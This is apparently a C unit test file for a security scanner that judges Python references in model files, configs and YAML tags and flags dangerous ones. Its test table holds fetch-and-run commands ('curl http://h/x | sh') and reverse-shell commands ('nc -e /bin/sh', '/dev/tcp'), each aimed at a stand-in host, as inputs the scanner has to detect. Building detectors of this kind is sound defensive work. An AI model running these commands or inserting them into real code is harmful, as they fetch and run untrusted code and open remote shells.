/* What names of Python mean outside of pickles. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "scan/reference_policy.h"

typedef struct example {
    tut_reference_act act;
    const char *name, *argument;
    bool is_on_load, is_hidden;
    const char *rule; /* NULL: none */
} example;

static void names_are_judged_by_who_asks_for_them(void **state)
{
    (void)state;
    static const example examples[] = {
        {TUT_REFERENCE_TARGET, "torch.optim.Adam", "", true, false, "data.hydra-target"},
        {TUT_REFERENCE_TARGET, "os.system", "", true, false, "data.hydra-call"},
        {TUT_REFERENCE_TARGET, "builtins.exec", "", true, false, "data.hydra-call"},
        {TUT_REFERENCE_TARGET, "eval", "", true, false, "data.hydra-call"},
        {TUT_REFERENCE_TARGET, "torch.load", "", true, false, "data.hydra-call"},
        {TUT_REFERENCE_TARGET, "my.module.os.system", "", true, false, "data.hydra-call"},
        {TUT_REFERENCE_TAG, "pkg.Thing", "", true, false, "data.yaml-python-tag"},
        {TUT_REFERENCE_TAG, "type", "", true, false, "data.yaml-python-tag"},
        {TUT_REFERENCE_TAG, "posix.system", "", true, false, "data.yaml-python-call"},
        {TUT_REFERENCE_APPLY, "type", "", true, false, "data.yaml-python-call"},
        {TUT_REFERENCE_APPLY, "subprocess.Popen", "", true, false, "data.yaml-python-call"},
        {TUT_REFERENCE_CALL, "os.system", "ls", true, false, "code.runs-on-import"},
        {TUT_REFERENCE_CALL, "os.system", "ls", false, false, NULL},
        {TUT_REFERENCE_CALL, "subprocess.run", "x", false, true, "code.hidden-code"},
        {TUT_REFERENCE_CALL, "builtins.exec", "", false, true, "code.hidden-code"},
        {TUT_REFERENCE_CALL, "builtins.eval", "1", true, false, NULL},
        {TUT_REFERENCE_CALL, "builtins.eval", "1", true, true, "code.hidden-code"},
        {TUT_REFERENCE_CALL, "marshal.loads", "", false, true, "code.hidden-code"},
        {TUT_REFERENCE_CALL, "builtins.compile", "", true, true, NULL},
        {TUT_REFERENCE_CALL, "os.system", "curl http://h/x | sh", true, false,
         "code.fetch-and-run"},
        {TUT_REFERENCE_CALL, "os.system", "curl http://h/x | sh", false, false,
         "code.pipes-download"},
        {TUT_REFERENCE_CALL, "os.system", "curl http://h/x | sha256sum", false, false, NULL},
        {TUT_REFERENCE_SHELL, "shell", "curl http://h/x | sudo -E bash -", false, false,
         "code.pipes-download"},
        {TUT_REFERENCE_SHELL, "shell", "curl -s h/x | python -m json.tool", false, false, NULL},
        {TUT_REFERENCE_SHELL, "shell", "wget https://h/x && chmod +x x", false, false, NULL},
        {TUT_REFERENCE_SHELL, "shell", "ls | sh", false, false, NULL},
        {TUT_REFERENCE_SHELL, "shell", "nc -e /bin/sh h 1", false, false, "code.reverse-shell"},
        {TUT_REFERENCE_CALL, "os.system", "bash -i >& /dev/tcp/h/1", false, false,
         "code.reverse-shell"},
        {TUT_REFERENCE_CALL, "subprocess.Popen().communicate", "", true, false, NULL},
        {TUT_REFERENCE_CALL, "os.path.join", "a", true, true, NULL},
        {TUT_REFERENCE_CALL, "collections.namedtuple", "A b", true, false, NULL},
    };
    for (size_t i = 0; i < sizeof(examples) / sizeof(examples[0]); i++) {
        const example *e = &examples[i];
        const tut_reference r = {.act = e->act,
                                 .name = tut_str_of(e->name),
                                 .shown = tut_str_of(e->name),
                                 .argument = tut_str_of(e->argument),
                                 .is_on_load = e->is_on_load,
                                 .is_hidden = e->is_hidden};
        tut_reference_verdict v;
        tut_reference_judge(&r, TUT_LIT("modeling.py"), &v);
        if (!v.rule != !e->rule || (v.rule && strcmp(v.rule, e->rule) != 0))
            fail_msg("%s: %s, not %s", e->name, v.rule ? v.rule : "nothing",
                     e->rule ? e->rule : "nothing");
    }
}

static void what_runs_at_an_installation_is_not_for_loading(void **state)
{
    (void)state;
    const tut_reference r = {.act = TUT_REFERENCE_CALL,
                             .name = TUT_LIT("subprocess.run"),
                             .shown = TUT_LIT("subprocess.run"),
                             .is_on_load = true};
    tut_reference_verdict v;
    tut_reference_judge(&r, TUT_LIT("setup.py"), &v);
    assert_null(v.rule);
    tut_reference_judge(&r, TUT_LIT("not_setup.py"), &v);
    assert_string_equal(v.rule, "code.runs-on-import");
}

static void each_call_is_a_finding_and_names_are_one(void **state)
{
    (void)state;
    tut_reference r = {.act = TUT_REFERENCE_TARGET, .name = TUT_LIT("a.B")};
    tut_reference_verdict first, second;
    tut_reference_judge(&r, TUT_LIT(""), &first);
    r.name = TUT_LIT("a.C");
    tut_reference_judge(&r, TUT_LIT(""), &second);
    assert_true(first.subject == second.subject && first.subject != 0);
    r.name = TUT_LIT("os.system");
    tut_reference_judge(&r, TUT_LIT(""), &first);
    r.name = TUT_LIT("os.popen");
    tut_reference_judge(&r, TUT_LIT(""), &second);
    assert_true(first.subject != second.subject);
}

static void lines_are_escaped(void **state)
{
    (void)state;
    TUT_CLEAN(tut_buf) line = TUT_BUF_INIT;
    const tut_reference r = {.act = TUT_REFERENCE_CALL,
                             .name = TUT_LIT("os.system"),
                             .shown = TUT_LIT("os.system"),
                             .argument = TUT_LIT("a\x1b[0m\n"),
                             .is_on_load = true};
    tut_reference_describe(&r, &line);
    assert_string_equal(tut_buf_z(&line), "os.system('a\\x1b[0m\\x0a'), when the file is imported");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(names_are_judged_by_who_asks_for_them),
        cmocka_unit_test(what_runs_at_an_installation_is_not_for_loading),
        cmocka_unit_test(each_call_is_a_finding_and_names_are_one),
        cmocka_unit_test(lines_are_escaped),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
